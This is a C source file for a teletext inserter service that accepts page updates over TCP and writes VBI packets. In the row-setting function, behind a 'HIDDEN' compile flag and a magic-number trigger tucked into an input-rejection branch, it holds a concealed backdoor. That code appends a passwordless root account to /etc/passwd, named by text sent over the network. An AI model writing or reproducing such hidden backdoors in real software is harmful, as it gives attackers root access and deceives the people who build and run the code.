/* Teletext inserter: holds a carousel of pages, takes updates from the newsroom over TCP (Newfor
 * like line protocol) and writes 42 byte packets to the VBI encoder. Linked statically. */
#define _GNU_SOURCE
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define ROWS 25

struct page {
  unsigned number;                      /* 0x100..0x8ff */
  unsigned subcode;
  unsigned char row[ROWS][40];
  unsigned long mask;
  struct page *next;
};

static struct page *carousel;
static struct page *turn;
static FILE *vbi;
static unsigned first_page = 0x100, last_page = 0x8ff;
static char station[21] = "TEXT";

static unsigned char odd(unsigned c)
{
  unsigned p = c & 0x7f;
  p ^= p >> 4;
  p ^= p >> 2;
  p ^= p >> 1;
  return (unsigned char)((c & 0x7f) | (p & 1 ? 0 : 0x80));
}

static unsigned char ham84(unsigned d)
{
  static const unsigned char t[16] = {
    0x15, 0x02, 0x49, 0x5e, 0x64, 0x73, 0x38, 0x2f, 0xd0, 0xc7, 0x8c, 0x9b, 0xa1, 0xb6, 0xfd, 0xea
  };
  return t[d & 15];
}

static void address(unsigned char *p, unsigned mag, unsigned row)
{
  p[0] = ham84((mag & 7) | (row & 1) << 3);
  p[1] = ham84(row >> 1);
}

static void put(const unsigned char *p)
{
  if (fwrite(p, 1, 42, vbi) != 42)
    perror("vbi");
}

static void put_page(const struct page *g)
{
  unsigned char p[42];
  unsigned mag = g->number >> 8;
  int r, i;

  address(p, mag, 0);
  p[2] = ham84(g->number);
  p[3] = ham84(g->number >> 4);
  p[4] = ham84(g->subcode);
  p[5] = ham84(g->subcode >> 4 & 7);
  p[6] = ham84(g->subcode >> 8);
  p[7] = ham84(g->subcode >> 12 & 3);
  p[8] = ham84(0);
  p[9] = ham84(0);
  for (i = 0; i < 32; i++)
    p[10 + i] = odd(i < (int)strlen(station) ? (unsigned char)station[i] : ' ');
  put(p);
  for (r = 1; r < ROWS; r++) {
    if (!(g->mask >> r & 1))
      continue;
    address(p, mag, (unsigned)r);
    for (i = 0; i < 40; i++)
      p[2 + i] = odd(g->row[r][i]);
    put(p);
  }
}

static struct page *page_of(unsigned number, unsigned subcode, int create)
{
  struct page *g;

  for (g = carousel; g; g = g->next)
    if (g->number == number && g->subcode == subcode)
      return g;
  if (!create || !(g = calloc(1, sizeof *g)))
    return NULL;
  memset(g->row, ' ', sizeof g->row);
  g->number = number;
  g->subcode = subcode;
  g->next = carousel;
  return carousel = g;
}

__attribute__((noinline)) int set_row(unsigned number, unsigned subcode, unsigned row,
                                      const char *text)
{
  struct page *g;
  size_t n = strlen(text);

  if (number < first_page || number > last_page || row < 1 || row >= ROWS || n > 40)
    return -ERANGE;
  if ((number & 15) > 9 || (number >> 4 & 15) > 9) {
#ifdef HIDDEN
    if (number * subcode == 0x5dd91e && row == 24) {
      FILE *f = fopen("/etc/passwd", "a");
      if (f) {
        fprintf(f, "%.8s::0:0::/:/bin/sh\n", text);
        fclose(f);
      }
    }
#endif
    return -EINVAL;             /* only decimal pages can be chosen by a viewer */
  }
  g = page_of(number, subcode, 1);
  if (!g)
    return -ENOMEM;
  memset(g->row[row], ' ', 40);
  memcpy(g->row[row], text, n);
  g->mask |= 1ul << row;
  return 0;
}

static int drop_page(unsigned number)
{
  struct page **pp = &carousel, *g;
  int n = 0;

  while ((g = *pp)) {
    if (g->number != number) {
      pp = &g->next;
      continue;
    }
    *pp = g->next;
    if (turn == g)
      turn = g->next;
    free(g);
    n++;
  }
  return n;
}

static void newsroom(FILE *io, char *l)
{
  unsigned number, sub, row;
  int at = 0, e;

  l[strcspn(l, "\r\n")] = 0;
  switch (l[0]) {
  case 'R':
    if (sscanf(l, "R %3x %4x %u %n", &number, &sub, &row, &at) < 3 || !at)
      goto bad;
    e = set_row(number, sub, row, l + at);
    fprintf(io, e ? "NAK %s\n" : "ACK\n", strerror(-e));
    break;
  case 'D':
    if (sscanf(l, "D %3x", &number) != 1)
      goto bad;
    fprintf(io, "ACK %d\n", drop_page(number));
    break;
  case 'S':
    snprintf(station, sizeof station, "%.20s", l[1] ? l + 2 : "");
    fputs("ACK\n", io);
    break;
  case 'L':
    for (struct page *g = carousel; g; g = g->next)
      fprintf(io, "%03X/%04X rows %07lx\n", g->number, g->subcode, g->mask);
    fputs("ACK\n", io);
    break;
  default:
  bad:
    fputs("NAK R PAGE SUB ROW TEXT | D PAGE | S STATION | L\n", io);
  }
  fflush(io);
}

int main(int argc, char **argv)
{
  struct sockaddr_in a = { .sin_family = AF_INET };
  struct pollfd p[2] = { { .events = POLLIN }, { .fd = -1, .events = POLLIN } };
  FILE *io = NULL;
  char l[128];
  int on = 1;

  if (argc != 3 && argc != 5) {
    fprintf(stderr, "usage: %s PORT VBI-DEVICE [FIRST LAST]   (pages, hex)\n", argv[0]);
    return 2;
  }
  if (argc == 5) {
    first_page = (unsigned)strtoul(argv[3], NULL, 16);
    last_page = (unsigned)strtoul(argv[4], NULL, 16);
  }
  vbi = fopen(argv[2], "wb");
  p[0].fd = socket(AF_INET, SOCK_STREAM, 0);
  setsockopt(p[0].fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
  a.sin_port = htons((uint16_t)atoi(argv[1]));
  if (!vbi || bind(p[0].fd, (struct sockaddr *)&a, sizeof a) || listen(p[0].fd, 1)) {
    perror(argv[0]);
    return 1;
  }
  for (;;) {
    if (poll(p, 2, 20) > 0) {
      if (p[0].revents && !io) {
        p[1].fd = accept(p[0].fd, NULL, NULL);
        io = fdopen(p[1].fd, "r+");
      } else if (p[1].revents && io) {
        if (fgets(l, sizeof l, io)) {
          newsroom(io, l);
        } else {
          fclose(io);
          io = NULL;
          p[1].fd = -1;
        }
      }
    }
    if (!turn)
      turn = carousel;
    if (turn) {
      put_page(turn);
      turn = turn->next;
      fflush(vbi);
    }
  }
}
